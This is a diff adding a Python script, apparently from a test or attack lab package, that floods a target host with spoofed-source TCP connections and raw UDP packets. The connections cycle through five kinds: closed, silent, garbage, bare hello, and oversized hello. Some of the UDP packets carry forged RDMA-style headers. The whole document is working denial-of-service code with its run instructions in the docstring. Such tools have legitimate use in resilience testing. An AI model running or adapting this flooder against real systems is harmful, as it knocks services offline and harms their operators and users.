@@ -1,0 +1,91 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Floods a host with connections and packets until it is killed: python flood.py RATE PACKETS.
+
+RATE: TCP connections a second, each from another source address, of five kinds in turn: closed at
+once, silent, a frame that is none, a hello without paths, a hello with a megabyte to come.
+PACKETS: UDP packets a second from random addresses, of random bytes and with true headers.
+Prints a line for each second: connections and packets so far.
+"""
+
+from __future__ import annotations
+
+import random
+import socket
+import sys
+import time
+from collections import deque
+
+from attack import forge
+from attack.net import ADDRESSES, PORT, crowd
+
+TARGET = ADDRESSES["b"]
+KINDS = (
+    None,
+    b"",
+    b"GET / HTTP/1.1\r\n\r\n",
+    forge.frame(forge.hello("10.9.9.9/8")),
+    b"\0\1\xff\xff" + b"[" * 60_000,
+)
+
+
+def connect(number: int, kept: deque[socket.socket]) -> None:
+    made = socket.socket()
+    made.setblocking(False)
+    made.bind((crowd(number % 60_000), 0))
+    try:
+        made.connect((TARGET, PORT))
+    except BlockingIOError:
+        pass
+    kept.append(made)
+
+
+def speak(made: socket.socket, number: int) -> bool:
+    """What a connection does a while later; whether it stays."""
+    said = KINDS[number % len(KINDS)]
+    try:
+        if said:
+            made.send(said)
+    except OSError:
+        return False
+    return said is not None
+
+
+def rubbish(number: int) -> list[bytes]:
+    """Packets, of which half look like packets of a QP."""
+    rng = random.Random(number)
+    bodies = [rng.randbytes(rng.randrange(1, 200)) for _ in range(8)]
+    return bodies + [forge.bth(0xC7, rng.randrange(1 << 24), 0) + body for body in bodies]
+
+
+def main(rate: int, packets: int) -> None:
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    sent = connected = 0
+    young: deque[socket.socket] = deque()
+    old: deque[socket.socket] = deque()
+    heads = [
+        forge.packet(crowd(n), TARGET, 4000 + n, PORT, body)
+        for n, body in enumerate(rubbish(1) * 4)
+    ]
+    start, told = time.monotonic(), 0
+    while True:
+        seconds = time.monotonic() - start
+        while connected < rate * seconds:
+            connect(connected, young)
+            connected += 1
+            if len(young) > 20:
+                made = young.popleft()
+                (old.append if speak(made, connected) else socket.socket.close)(made)
+            if len(old) > 3 * rate:
+                old.popleft().close()
+        for _ in range(min(64, int(packets * seconds) - sent)):
+            raw.sendto(heads[sent % len(heads)], (TARGET, 0))
+            sent += 1
+        if sent >= packets * seconds:
+            time.sleep(0.0005)
+        if seconds > told + 1:
+            told += 1
+            print(connected, sent, flush=True)
+
+
+if __name__ == "__main__":
+    main(int(sys.argv[1]), int(sys.argv[2]))
